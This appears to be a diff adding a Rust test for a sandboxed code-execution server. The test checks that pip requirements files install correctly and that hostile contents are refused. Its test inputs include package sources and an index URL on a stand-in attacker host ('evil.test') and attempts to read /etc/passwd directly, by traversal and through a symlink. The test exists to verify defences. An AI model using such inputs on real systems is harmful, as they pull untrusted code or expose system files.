@@ -114,6 +114,62 @@ fn a_shell_of_a_session_installs_by_pip_as_a_cell_does() {
 }
 
 #[test]
+fn a_requirements_file_of_a_session_is_installed_by_cells_and_shells() {
+    let server = start(&Data::fresh(), &["packages.deny=[\"tabulate\"]"]);
+    let session = open(&server, &json!({}));
+    let bash = |code: &str| json!({"language": "bash", "code": code});
+    let write = |path: &str, text: &str| {
+        let code = format!(
+            "import pathlib\np = pathlib.Path({path:?})\np.parent.mkdir(exist_ok=True)\np.write_text({text:?})\n0"
+        );
+        assert_eq!(run(&server, &session, &json!({"code": code}))["outcome"], "completed");
+    };
+    let refused = |request: &Value| {
+        let (status, problem) = server.post_json(&format!("{session}/runs"), request);
+        assert_eq!(status, 422, "{problem}");
+        said(&problem)
+    };
+    // Before there is one.
+    let cell = "%pip install -q -r requirements.txt\nimport six; print(six.__version__)";
+    let missing = refused(&json!({"code": cell}));
+    assert!(missing.starts_with("code: line 1: ") && missing.contains("there is no such file"), "{missing}");
+    assert!(refused(&bash("set -e\npip install -r no.txt")).starts_with("code: line 2: "));
+    write("requirements.txt", "# ours\nsix==1.16.0\n");
+    let cells = run(&server, &session, &json!({"code": cell}));
+    assert_eq!(cells["stdout"], "Installed six 1.16.0\n1.16.0\n", "{cells}");
+    write("sub/more.txt", "idna==3.10\n");
+    let shell = "pip install -r /workspace/sub/more.txt && python3 -c 'import idna; print(idna.__version__)'";
+    let shells = run(&server, &session, &bash(shell));
+    assert_eq!(shells["stdout"], "Installed idna 3.10\n3.10\n", "{shells}");
+    // Relative to where the run is, and sent with it.
+    let mut below = bash("pip install -rmore.txt && echo done");
+    below["cwd"] = json!("sub");
+    assert_eq!(run(&server, &session, &below)["stdout"], "Installed idna 3.10\ndone\n");
+    let mut sent = bash("pip install --requirement=sent.txt && echo done");
+    sent["files"] = json!([{"path": "sent.txt", "text": "idna==3.10\n"}]);
+    assert_eq!(run(&server, &session, &sent)["stdout"], "Installed idna 3.10\ndone\n");
+    // What is in it is judged as it is anywhere.
+    for (text, words) in [
+        ("six\ntabulate\n", "packages.deny"),
+        (
+            "six\ngit+https://evil.test/x\n",
+            "files: bad.txt: line 2: git+https://evil.test/x: is a version control",
+        ),
+        ("-r other.txt\n", "option"),
+        ("--index-url https://evil.test\nsix\n", "option"),
+    ] {
+        write("bad.txt", text);
+        let words_of = refused(&json!({"code": "%pip install -r bad.txt"}));
+        assert!(words_of.contains(words), "{text}: {words_of}");
+    }
+    for path in ["../etc/passwd", "/etc/passwd", "link"] {
+        run(&server, &session, &bash("ln -sf /etc/passwd link"));
+        let words = refused(&bash(&format!("pip install -r {path}")));
+        assert!(words.starts_with("code: line 1: "), "{words}");
+    }
+}
+
+#[test]
 fn a_runtime_is_a_language_with_its_version() {
     let server = Server::start(&[]);
     let version = "import sys; print('%d.%d' % sys.version_info[:2])";
